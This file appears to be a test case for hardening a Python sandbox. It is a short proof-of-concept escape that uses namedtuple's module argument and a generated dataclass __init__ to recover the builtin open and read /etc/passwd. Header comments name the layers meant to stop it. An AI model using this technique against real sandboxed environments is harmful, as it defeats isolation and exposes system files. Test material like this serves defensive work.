# tries: namedtuple writes the module that it is told
# class: dataclass
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import collections
import dataclasses

P = collections.namedtuple("P", "x", module="io")
if P.__module__ == "io":
    C = type("C", (), {"__annotations__": {"x": int}, "__module__": P.__module__})
    dataclasses.dataclass(C)
    use(C.__init__.__globals__["open"])
